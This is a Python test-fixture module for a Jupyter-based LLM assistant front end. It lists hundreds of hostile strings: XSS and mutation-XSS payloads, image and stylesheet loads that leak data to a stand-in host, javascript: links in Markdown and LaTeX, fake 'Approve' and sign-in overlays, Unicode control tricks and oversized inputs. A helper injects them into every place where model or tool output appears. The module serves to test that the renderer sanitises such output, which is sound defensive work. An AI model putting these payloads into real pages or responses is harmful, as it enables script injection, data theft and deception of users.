"""What a model or a tool may say to harm whoever reads it: text that wants to run, load, cover, submit or rename.

`ATTACKS` are texts by name; :func:`said_everywhere` makes of one the events of a run that says it wherever hostile text
can stand. An attack that succeeds calls ``pwned()``, asks a host of ``.invalid`` for something, or changes the page
outside the answer. The tests of the front end have a copy, which ``python tests/display/attacks.py`` renews.
"""

from __future__ import annotations

import json
from pathlib import Path

from mojentic_nb.llm import (
    Event,
    Finish,
    LLMToolCall,
    ReasoningDelta,
    Retry,
    StepFinish,
    TextDelta,
    ToolCallDelta,
    ToolCallEnd,
    ToolCallStart,
    ToolProgress,
    ToolResult,
)

__all__ = ["ATTACKS", "COPY", "Page", "exported", "said_everywhere"]

COPY = Path(__file__).parents[1] / "frontend" / "attacks.json"

LEAK = "https://leak.invalid"

HTML = {
    "script": "<script>pwned()</script>",
    "script-src": f"<script src='{LEAK}/x.js'></script>",
    "script-case": "<ScRiPt >pwned()</sCrIpT >",
    "script-split": "<scr<script>ipt>pwned()</scr</script>ipt>",
    "script-slash": "<script/x>pwned()</script/x>",
    "script-null": "<scr\0ipt>pwned()</scr\0ipt>",
    "script-unclosed": "<script>pwned()",
    "img-onerror": "<img src=x onerror=pwned()>",
    "img-onerror-slashes": "<img/src=x/onerror=pwned()>",
    "img-onerror-quotes": '<img src="x" onerror="pwned()" alt=\'"\'>',
    "img-broken": '<img """><img src=x onerror=pwned()>">',
    "img-load": f"<img src='{LEAK}/pixel.png'>",
    "img-srcset": f"<img srcset='{LEAK}/a.png 1x, {LEAK}/b.png 2x'>",
    "img-lowsrc": f"<img dynsrc='{LEAK}/a' lowsrc='{LEAK}/b'>",
    "img-lazy": "<img loading=eager src='//leak.invalid/pixel'>",
    "picture": f"<picture><source srcset='{LEAK}/p.webp'><img src='{LEAK}/p.png'></picture>",
    "svg-onload": "<svg onload=pwned()>",
    "svg-script": "<svg><script>pwned()</script></svg>",
    "svg-script-href": f"<svg><script href='{LEAK}/x.js'/></svg>",
    "svg-animate": "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "svg-animate-href": "<svg><a><animate attributeName=href values=javascript:pwned() /><text y=20>click</text></a></svg>",  # noqa: E501
    "svg-use": f"<svg><use href='{LEAK}/x.svg#y'/></svg>",
    "svg-image": f"<svg><image href='{LEAK}/x.png' width=9 height=9 /></svg>",
    "svg-foreign": "<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>",
    "svg-style": f"<svg><style>*{{background:url({LEAK}/s)}}</style></svg>",
    "math-href": "<math href='javascript:pwned()'><mtext>click</mtext></math>",
    "math-xlink": "<math><maction actiontype=statusline xlink:href='javascript:pwned()'>click</maction></math>",
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    "mxss-style": "<style><style/><img src=x onerror=pwned()>",
    "mxss-math-style": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',  # noqa: E501
    "mxss-svg-p": '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
    "mxss-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "mxss-template": "<template><img src=x onerror=pwned()></template>",
    "mxss-select": "<select><style></select><img src=x onerror=pwned()></style>",
    "mxss-title": "<title><a title='</title><img src=x onerror=pwned()>'>",
    "mxss-xmp": "<xmp><p title='</xmp><img src=x onerror=pwned()>'>",
    "mxss-iframe-text": "<iframe><p title='</iframe><img src=x onerror=pwned()>'>",
    "mxss-desc": "<svg><desc><table><img src=x onerror=pwned()></desc></svg>",
    "mxss-backtick": "<img alt=`><img src=x onerror=pwned()>`>",
    "body-onload": "<body onload=pwned()>",
    "details-ontoggle": "<details open ontoggle=pwned()><summary>x</summary></details>",
    "input-autofocus": "<input autofocus onfocus=pwned()>",
    "focus-tabindex": "<p tabindex=0 id=x autofocus onfocus=pwned()>x</p>",
    "marquee": "<marquee onstart=pwned()>x</marquee>",
    "video": f"<video autoplay src='{LEAK}/v.mp4' onerror=pwned() poster='{LEAK}/p.png'></video>",
    "audio": f"<audio autoplay src='{LEAK}/a.mp3' onerror=pwned()></audio>",
    "transition": "<p style='transition:color 1s' ontransitionend=pwned()>x</p>",
    "popover": "<button popovertarget=x>y</button><p id=x popover onbeforetoggle=pwned()>z</p>",
    "custom-element": "<x-y onclick=pwned()>z</x-y>",
    "iframe": f"<iframe src='{LEAK}/'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "iframe-js": "<iframe src='javascript:parent.pwned()'></iframe>",
    "object": f"<object data='{LEAK}/o'></object>",
    "object-js": "<object data='javascript:pwned()'></object>",
    "embed": f"<embed src='{LEAK}/e'>",
    "frameset": f"<frameset><frame src='{LEAK}/f'></frameset>",
    "form": f"<form action='{LEAK}/f'><input name=q><button>Go</button></form>",
    "form-formaction": "<form><button formaction='javascript:pwned()'>Go</button></form>",
    "form-clobber": "<form id=body><input name=parentNode><input name=nodeName></form>",
    "command-button": "<button data-commandlinker-command='notebook:run-all-cells' data-commandlinker-args='{}'>Go</button>",  # noqa: E501
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={LEAK}/m'>",
    "meta-csp": "<meta http-equiv=content-security-policy content=\"script-src 'none'\">",
    "base": f"<base href='{LEAK}/'>",
    "link-stylesheet": f"<link rel=stylesheet href='{LEAK}/s.css'>",
    "link-prefetch": f"<link rel=prefetch href='{LEAK}/p'><link rel=dns-prefetch href='//leak.invalid'>",
    "style-import": f"<style>@import '{LEAK}/s.css';</style>",
    "style-hide": "<style>body{display:none!important} *{visibility:hidden}</style>",
    "style-attribute-url": f"<p style='background:url({LEAK}/b)'>x</p>",
    "style-overlay": "<div style='position:fixed;inset:0;z-index:2147483647;background:red'>Sign in</div>",
    "style-absolute": "<a style='position:absolute;top:-999px;left:-999px;width:9999px;height:9999px' href='#'>x</a>",
    "style-huge": "<span style='font-size:99999px;letter-spacing:99999px'>x</span>",
    "style-transform": "<p style='transform:scale(99);opacity:0'>x</p>",
    "style-cursor": f"<p style='cursor:url({LEAK}/c.cur),auto;list-style-image:url({LEAK}/l)'>x</p>",
    "style-image-set": f"<p style='background-image:image-set(\"{LEAK}/i\" 1x);content:url({LEAK}/c)'>x</p>",
    "style-escape": "<p style='back\\67round:u\\72l(https://leak.invalid/e)'>x</p>",
    "style-variable": f"<p style='--jp-layout-color0:url({LEAK}/v);background:var(--jp-layout-color0)'>x</p>",
    "style-expression": "<p style='width:expression(pwned());behavior:url(#x);-moz-binding:url(x)'>x</p>",
    "id-clobber": "<a id=jupyterapp></a><a id=pwned></a><img name=getElementById>",
    "class-lab": "<div class='jp-Dialog jp-mod-fullscreen lm-Menu mnb-card'>x</div>",
    "heading-close": "</div></div></div></details></summary></pre></code></body></html>after",
    "table-close": "</td></tr></table></div>outside<table><tr><td>",
    "textarea": "</textarea><textarea>swallowed",
    "plaintext": "<plaintext>swallowed",
    "comment": "<!-- swallowed",
    "comment-break": "--><img src=x onerror=pwned()><!--",
    "comment-conditional": "<!--[if IE]><img src=x onerror=pwned()><![endif]-->",
    "cdata": "<![CDATA[<img src=x onerror=pwned()>]]>",
    "processing": "<?xml-stylesheet href='https://leak.invalid/s.xsl'?><?php pwned() ?>",
    "doctype": "<!DOCTYPE html [<!ENTITY x SYSTEM 'https://leak.invalid/x'>]>&x;",
    "entities": "&lt;img src=x onerror=pwned()&gt; &#60;script&#62;pwned()&#60;/script&#62;",
    "double-entities": "&amp;lt;img src=x onerror=pwned()&amp;gt;",
    "attribute-break": '"><img src=x onerror=pwned()><a title="',
    "attribute-break-single": "'><img src=x onerror=pwned()><a title='",
    "attribute-events": 'x" onmouseover="pwned()" autofocus onfocus="pwned()" x="',
    "template-tags": "{{constructor.constructor('pwned()')()}} ${pwned()} <%= pwned() %> [[pwned()]]",
    "utf7": "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "fullwidth": "＜img src=x onerror=pwned()＞",  # noqa: RUF001
    "details-nest": "<details><details><details><summary>x",
    "dialog": "<dialog open style='position:fixed'>Sign in</dialog>",
    "portal": f"<portal src='{LEAK}/'></portal><fencedframe src='{LEAK}/'></fencedframe>",
    "ping": f"<a href='#' ping='{LEAK}/ping'>x</a>",
    "track": f"<video><track default src='{LEAK}/t.vtt'></video>",
    "html-image-data": "<img src='data:text/html,<script>pwned()</script>'><img src='data:image/svg+xml,<svg onload=pwned()>'>",  # noqa: E501
    "html-link-data": "<a href='data:text/html,<script>pwned()</script>'>x</a>",
    "importmap": f'<script type=importmap>{{"imports":{{"x":"{LEAK}/x"}}}}</script>',
    "clobber-lab": "<form id=currentWidget><input id=context name=sessionContext></form><a id=jupyterapp>x</a>",
    "details-close": "</summary></details><details open style='position:fixed;inset:0'><summary>Approve</summary>",
    "button-spoof": "<div class='mnb-question'><button class='mnb-button mnb-approve'>Approve</button></div>",
    "placeholder-spoof": f"<button class=mnb-image data-mnb-key='{LEAK}/k.png'>[image]</button>",
    "formula-spoof": "<span class=mnb-math data-mnb-key='$\\href{javascript:pwned()}{x}$'>x</span>",
    "shadow-root": "<div><template shadowrootmode=open><img src=x onerror=pwned()></template></div><slot part=x>",
    "attribution": f"<a href=x attributionsrc='{LEAK}/a'>y</a><img attributionsrc='{LEAK}/b'>",
    "style-table": "<table style='position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9'><tr><td>x</table>",
    "style-has": f"<style>.jp-Cell:has(input[value^=a]){{background:url({LEAK}/a)}}</style>",
    "svg-css": f"<?xml-stylesheet href='{LEAK}/s.css'?><svg xmlns='http://www.w3.org/2000/svg'><style>@import url({LEAK}/i)</style></svg>",  # noqa: E501
    "mxss-annotation": "<math><annotation-xml encoding='text/html'><img src=x onerror=pwned()></annotation-xml></math>",
    "line-separators": "a\u2028<img src=x onerror=pwned()>\u2029b\v<img src=x onerror=pwned()>\f\x85",
    "speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{LEAK}/s"]}}]}}</script>',
}

MARKDOWN = {
    "link-js": "[x](javascript:pwned())",
    "link-js-case": "[x](JaVaScRiPt:pwned())",
    "link-js-entity": "[x](&#106;avascript:pwned())",
    "link-js-tab": "[x](java\tscript:pwned())",
    "link-js-newline": "[x](<java\nscript:pwned()>)",
    "link-js-control": "[x](\x01javascript:pwned())",
    "link-vbscript": "[x](vbscript:pwned())",
    "link-data": "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg==)",
    "link-data-image": "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT4=)",
    "link-file": "[x](file:///etc/passwd) [y](blob:https://x/1) [z](view-source:x) [w](command-linker:x)",
    "link-quote": '[x](https://a.invalid/"onmouseover="pwned())',
    "link-title": "[x](https://a.invalid '\"onmouseover=pwned() x=\"')",
    "link-autolink": "<javascript:pwned()> <data:text/html,x>",
    "link-in-text": "[<img src=x onerror=pwned()>](https://a.invalid)",
    "link-reference": "[x][1]\n\n[1]: javascript:pwned()",
    "link-reference-hides": "[hidden]: https://a.invalid 'what nobody would see'",
    "link-whitespace": "[x](<  javascript:pwned()>) [y](\xa0javascript:pwned()) [z](java%0ascript:pwned())",
    "link-command": "[x](command:workbench.action.terminal.new) [y](vscode:extension/x) [z](about:blank)",
    "image-quote": f'![x]({LEAK}/"onclick="pwned()"x=) ![a](<{LEAK}/a b" autofocus onfocus="pwned()>)',
    "fence-language": '```python class=jp-Dialog" onmouseover="pwned()\nx\n```',
    "fence-mermaid": '```mermaid\ngraph TD; A["<img src=x onerror=pwned()>"]; click A href "javascript:pwned()"\n```',
    "link-relative": "[x](/api/shutdown) [y](//leak.invalid) [z](#main)",
    "image-load": f"![secret]({LEAK}/?q=secret)",
    "image-protocol-relative": "![x](//leak.invalid/x.png)",
    "image-reference": f"![x][1]\n\n[1]: {LEAK}/x.png",
    "image-in-link": f"[![x]({LEAK}/x.png)]({LEAK}/y)",
    "image-title": f'!["onerror="pwned()]({LEAK}/x.png "x\\" onerror=pwned()")',
    "image-host": r"![x](https://evil.invalid\@good.example/x.png) ![y](https://good.example@leak.invalid/x.png)",
    "image-slashes": r"![x](https:/\leak.invalid/x.png) ![y](https:///leak.invalid/x.png) ![z](https://0x7f.1/x.png)",
    "image-data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT4=)",
    "image-in-table": f"| a |\n|---|\n| ![x]({LEAK}/t.png) |",
    "fence-unclosed": "```python\nprint(1)\n<img src=x onerror=pwned()>",
    "fence-info": '```"><img src=x onerror=pwned()>\nx\n```',
    "fence-close": "```\nx\n```\n</code></pre></div><img src=x onerror=pwned()>",
    "code-span": "`</code><img src=x onerror=pwned()>`",
    "html-block": "<div>\n\n*x*\n\n<img src=x onerror=pwned()>\n\n</div></div></div>",
    "html-in-list": "- <img src=x onerror=pwned()>\n  - </ul></div>",
    "table-escape": "| a | b |\n|---|---|\n| </td></table> | <img src=x onerror=pwned()> | too many |",
    "heading-id": "# x {#jupyterapp onclick=pwned()}",
    "class-attribute": '<b class="mnb-card">x</b> class="mnb-card" style="position:fixed"',
}

LATEX = {
    "latex-href": r"$\href{javascript:pwned()}{click}$",
    "latex-link": rf"$\href{{{LEAK}/q}}{{click}}$",
    "latex-display": r"$$\href{javascript:pwned()}{\style{position:fixed;inset:0}{x}}$$",
    "latex-parens": r"\(\class{jp-Dialog}{x}\) \[\cssId{jupyterapp}{x}\]",
    "latex-braces": r"$a{$ \href{javascript:pwned()}{x} $}b$",
    "latex-space": r"costs 5$ \href{javascript:pwned()}{x} $ more",
    "latex-escaped": r"\\( \href{javascript:pwned()}{x} \\)",
    "latex-environment": "\\begin{align}\n\\href{javascript:pwned()}{x}\n\\end{align}",
    "latex-redefine": r"$\def\sum{x}\newcommand{\int}{y}\let\alpha\beta$",
    "latex-style-url": rf"$\bbox[background:url({LEAK}/b)]{{x}}$",
    "latex-loop": r"$\def\a{\a\a}\a$",
    "latex-html": r"$</span><img src=x onerror=pwned()>$",
    "latex-tip": r"$\texttip{x}{<img src=x onerror=pwned()>} \mathtip{x}{\href{javascript:pwned()}{y}}$",
    "latex-enclose": r"$\enclose{circle}[style='position:fixed' href='javascript:pwned()']{x}$",
    "latex-raise": r"$\raise 900em{\rule[-900em]{900em}{1800em}} \kern-900em\rule{1800em}{1800em}$",
    "latex-columns": r"$\begin{array}{>{\href{javascript:pwned()}}c|@{\style{position:fixed}{x}}c}a&b\end{array}$",
    "latex-text": r"$\text{$\href{javascript:pwned()}{x}$ \( \style{position:fixed}{y} \)}$",
    "latex-cover": r"$\rlap{\smash{\lower 4em{\colorbox{white}{/tmp/cache/old.log}}}}$ $x\\[-90em]\colorbox{white}{y}$",
    "latex-overlay": r"$\mathtip{x}{\rule{90em}{90em}} \kern-90em\mathllap{\rule{90em}{90em}} \skew{999}{x}{y}$",
    "latex-deep": "$" + r"\frac{1}{" * 150 + "x" + "}" * 150 + "$",
    "latex-double": "$" + r"\dyad{\mathchoice{a}{b}{c}{" * 20 + "x" + "}}" * 20 + "$",
    "latex-mml": r"$\mmlToken{mi}[href='javascript:pwned()']{x}$",
}

CONTROLS = {
    "ansi": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;javascript:pwned()\x07x\x1b]8;;\x07 \x1b[2J",
    "bidi": "\u202egpj.exe\u202c \u2066left\u2069 \u200f",
    "backspace": "safe\b\b\b\bevil\r overwritten",
    "c1": "\x9b31mred \x85 \x90",
    "zero-width": "java\u200bscript\u2060:\ufeff<im\u200dg src=x onerror=pwned()>",
    "tags": "Delete it" + "".join(chr(0xE0000 + ord(letter)) for letter in "not") + "\U000e0100\ufe0f\ufe0f",
    "fillers": "a\u3164b\u115fc\u1160d\uffa0e\u180ef\xadg\u034fh",
    "joiners": "\u200d\u200c \U0001f469\u200d\U0001f4bb \u0645\u06cc\u200c\u062e a\u200db \u061c \u2062 \u2028 \u2029",
    "nul": "\0<\0img src=x onerror=pwned()>",
    "surrogate": "\ud800<img src=x onerror=pwned()>\udfff",
    "noncharacter": "\ufffe\uffff\U000e0001\U000e0041",
    "combining": "Z" + "\u0335\u0348\u033c" * 200,
    "line-separators": "a\u2028b\u2029c\x0bd\x0ce",
}

LARGE = {
    "deep-quotes": ">" * 100_000,
    "deep-brackets": "[" * 100_000,
    "deep-lists": "- " * 20_000,
    "deep-emphasis": "*a _b " * 10_000,
    "deep-images": "![" * 10_000,
    "many-backticks": "".join("`" * count + " " for count in range(400)),
    "code-links": "```markdown\n" + "[a](" * 4_900 + "\n```",
    "code-dollars": "```java\n" + "$" * 19_900 + "\n```",
    "code-digits": "```toml\n" + "1_" * 9_900 + "\n```",
    "many-dollars": "$$ $ \\( " * 2_000,
    "many-formulas": "$x$ " * 5_000,
    "many-addresses": "http://a" * 12_000,
    "many-joiners": "\u200d" * 100_000,
    "many-angles": "<" * 20_000,
    "many-pipes": "|" * 5_000 + "\n" + "|-" * 5_000,
    "many-ampersands": "&" * 20_000,
    "many-tildes": "~~a" * 10_000,
    "long-word": "x" * 100_000,
    "deep-json": '{"a":' * 5_000,
    "deep-html": "<div>" * 20_000,
}

ATTACKS: dict[str, str] = {**HTML, **MARKDOWN, **LATEX, **CONTROLS, **LARGE}


def exported() -> str:
    """What the front end's copy has: all but the large ones."""
    return json.dumps({name: text for name, text in ATTACKS.items() if name not in LARGE}, indent=1) + "\n"


class Page:
    """A tool's result that tells the `text` to Jupyter as HTML, Markdown and SVG, as `kind` says."""

    def __init__(self, text: str, kind: str) -> None:
        setattr(self, f"_repr_{kind}_", lambda: text)

    def __repr__(self) -> str:
        return "Page()"


def said_everywhere(text: str) -> list[Event]:
    """A run in which the model and its tools say `text` wherever they can."""
    displays = [text, {text: [text]}, Page(text, "html"), Page(text, "markdown"), Page(text, "svg"), ValueError(text)]
    calls = [
        LLMToolCall(id=f"{number}{text[:50]}", name=text[:2000], arguments={text[:2000]: text[:2000]})
        for number in range(len(displays))
    ]
    events: list[Event] = [Retry(1, 0.5, text), ReasoningDelta(text), TextDelta(text)]
    for call in calls:
        events += [ToolCallStart(call.id, call.name), ToolCallDelta(call.id, json.dumps(call.arguments) + text)]
    events += [ToolCallEnd(call) for call in calls]
    events += [StepFinish("tool_calls"), ToolProgress(calls[0].id, text), ToolProgress(calls[1].id, TextDelta(text))]
    events += [
        ToolResult(call, text, is_error=isinstance(display, ValueError), duration=1.0, display=display)
        for call, display in zip(calls, displays, strict=True)
    ]
    return [*events, TextDelta("The end is here."), StepFinish("stop"), Finish("stop")]


if __name__ == "__main__":
    COPY.write_text(exported())
